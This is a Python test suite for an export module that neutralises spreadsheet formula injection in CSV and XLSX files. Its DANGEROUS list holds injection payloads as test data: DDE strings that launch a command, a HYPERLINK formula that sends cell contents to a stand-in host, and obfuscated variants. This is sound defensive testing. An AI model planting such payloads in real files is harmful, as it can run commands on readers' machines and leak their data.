"""No text of a file that leaves is ever a formula; numbers, dates and moments stay what they are."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flow.services.export_write import FORMULA, as_csv, as_xlsx, plain, safe

DANGEROUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test?"&A1,"open")',
    "+44 1752 000000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\rcall",
    "\n=1+1",
    " =1+1",
    "\u00a0\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "\"'  @x",
    "\u201c=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "-5",
)
PLAIN = ("Hartor", "2018-06-05", "a=b", "E06000026", "3 - waiting", "", "it's", "a, b; c", "£5", "(=1)")
INSIDE = ("a;=1+1", "a\n=1+1", "a\t+1", 'a; "@x')
ABOUT = [("system", "Demo (demo)"), ("morning", date(2018, 6, 5)), ("made", datetime(2018, 6, 5, 8, 0, tzinfo=UTC))]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", DANGEROUS, ids=ascii)
def test_a_text_that_begins_a_formula_has_an_apostrophe_before_it_in_csv(text: str) -> None:
    cell = read_csv(as_csv(pd.DataFrame({"said": [text]}), []))[1][0]
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize("text", INSIDE, ids=ascii)
def test_nor_does_a_formula_begin_where_a_spreadsheet_might_part_the_cell(text: str) -> None:
    sign = next(mark for mark in "=+@" if mark in text)
    assert safe(text) == text.replace(sign, f"'{sign}", 1)


@given(st.text())
def test_no_text_at_all_gets_through_as_a_formula(text: str) -> None:
    guarded = safe(text)
    assert guarded.startswith("'") or not guarded.lstrip(" \t\r\n\"'").startswith(("=", "+", "-", "@"))
    assert guarded.startswith("'") == bool(FORMULA.match(text)) or text.startswith("'")


@pytest.mark.parametrize("text", [*DANGEROUS, *INSIDE], ids=ascii)
def test_a_workbook_holds_every_text_as_a_string(text: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(pd.DataFrame({"said": [text]}), ABOUT, "people")))
    cell = book["people"]["A2"]
    assert cell.data_type == "s"
    assert not any(each.data_type == "f" for sheet in book for row in sheet for each in row)
    if text.isprintable():
        assert cell.value == text


def test_a_name_of_a_column_is_guarded_too() -> None:
    assert read_csv(as_csv(pd.DataFrame({"=x": [1]}), []))[0] == ["'=x"]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(pd.DataFrame({"=x": [1]}), [], "people")))
    assert (book["people"]["A1"].data_type, book["people"]["A1"].value) == ("s", "=x")


FRAME = pd.DataFrame(
    [[-5, 0.035, date(2018, 6, 5), datetime(2018, 6, 5, 8, 0, tzinfo=UTC), True, None, "Hartor"]],
    columns=["count", "share", "day", "at", "owed", "none", "ward"],
    dtype=object,
)


def test_numbers_days_and_moments_stay_what_they_are_in_csv() -> None:
    content = as_csv(FRAME, ABOUT)
    assert content.startswith(b"\xef\xbb\xbfsystem,morning,made,count,")
    assert read_csv(content)[1] == [
        "Demo (demo)", "2018-06-05", "2018-06-05 09:00", "-5", "0.035", "2018-06-05", "2018-06-05 09:00", "yes", "",
        "Hartor",
    ]  # fmt: skip


def test_numbers_days_and_moments_stay_what_they_are_in_a_workbook() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(FRAME, ABOUT, "a table with a name much too long for a sheet")))
    assert book.sheetnames == ["a table with a name much too lo", "About"]
    cells = next(book.worksheets[0].iter_rows(min_row=2))
    assert [cell.value for cell in cells] == [
        -5, 0.035, datetime(2018, 6, 5), datetime(2018, 6, 5, 9, 0), "yes", None, "Hartor",  # noqa: DTZ001
    ]  # fmt: skip
    assert [cell.data_type for cell in cells] == ["n", "n", "d", "d", "s", "n", "s"]
    assert [[cell.value for cell in row] for row in book["About"].iter_rows()] == [
        ["system", "Demo (demo)"],
        ["morning", "Tue 5 June 2018"],
        ["made", "09:00 on Tue 5 June 2018"],
    ]


def test_what_pandas_and_numpy_hold_is_written_plainly() -> None:
    stamp = pd.Timestamp("2018-06-05 07:00", tz="UTC")
    held = [np.int64(3), np.float64("nan"), np.bool_(False), pd.NA, pd.NaT, stamp, pd.Timestamp("2018-06-05"), 1e400]
    assert [plain(value) for value in held] == [
        3, None, "no", None, None, datetime(2018, 6, 5, 8, 0), date(2018, 6, 5), None,  # noqa: DTZ001
    ]  # fmt: skip


def test_an_empty_table_is_a_file_with_its_columns() -> None:
    empty = pd.DataFrame(columns=["ward", "bed"])
    assert read_csv(as_csv(empty, ABOUT)) == [["system", "morning", "made", "ward", "bed"]]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(empty, ABOUT, "people")))
    assert [cell.value for cell in book["people"][1]] == ["ward", "bed"]


def test_a_text_longer_than_a_cell_may_be_is_cut() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(pd.DataFrame({"a": ["x" * 40_000]}), [], "people")))
    assert len(book["people"]["A2"].value) == 32_767
